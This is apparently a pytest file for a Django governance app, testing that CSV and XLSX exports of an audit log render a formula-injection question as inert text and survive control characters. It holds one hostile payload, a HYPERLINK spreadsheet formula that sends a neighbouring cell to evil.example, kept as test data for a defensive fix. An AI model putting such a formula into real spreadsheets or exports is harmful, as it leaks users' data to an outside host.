"""Audit exports that cannot carry a payload (issue 10, section 6).

The reproduction: an analyst asks `=HYPERLINK("http://evil.example/?d="&N2,"ver")`; the question
lands in the audit log verbatim (as it must), and before the fix it became a live formula in the
compliance officer's exported spreadsheet, sending the neighbouring cell (the SQL) away on a
click. A question with control characters made the Excel export fail outright.
"""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from apps.governance.models import AuditEntry

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://evil.example/?d="&N2,"ver")'
CONTROL = "ventas \x01\x1b[31m por región"


@pytest.fixture
def asked(login, ask_htmx):  # noqa: ANN001, ANN201
    """The analyst's two questions, as recorded in the audit log."""
    login("analista")
    ask_htmx(PAYLOAD)
    ask_htmx(CONTROL)
    questions = set(AuditEntry.objects.values_list("question", flat=True))
    assert {PAYLOAD, CONTROL} <= questions  # the log keeps what was asked
    return questions


def _column(rows: list, name: str) -> list:
    index = list(rows[0]).index(name)
    return [row[index] for row in rows[1:]]


def test_the_audit_csv_keeps_a_formula_question_inert(login, asked):
    response = login("auditor").get("/compliance/audit/export/?format=csv&user=analista")
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    questions = _column(rows, "question")
    assert "'" + PAYLOAD in questions
    assert not any(q.startswith(("=", "+", "-", "@", "\t", "\r")) for q in questions)
    assert "ventas \\x01\\x1b[31m por región" in questions


def test_the_audit_xlsx_keeps_a_formula_question_as_text_and_exports_control_characters(
    login, asked
):
    response = login("admin").get("/compliance/audit/export/?format=xlsx&user=analista")
    assert response.status_code == 200  # before: IllegalCharacterError, a 500
    sheet = load_workbook(io.BytesIO(response.content))["audit"]
    header = [cell.value for cell in sheet[1]]
    column = header.index("question") + 1
    cells = [sheet.cell(row=r, column=column) for r in range(2, sheet.max_row + 1)]
    payload = next(cell for cell in cells if cell.value == PAYLOAD)
    assert payload.data_type == "s" and payload.quotePrefix  # text, never a formula
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
    assert "ventas \\x01\\x1b[31m por región" in [cell.value for cell in cells]
    seq = sheet.cell(row=2, column=1)
    assert seq.data_type == "n"  # numbers stay numbers
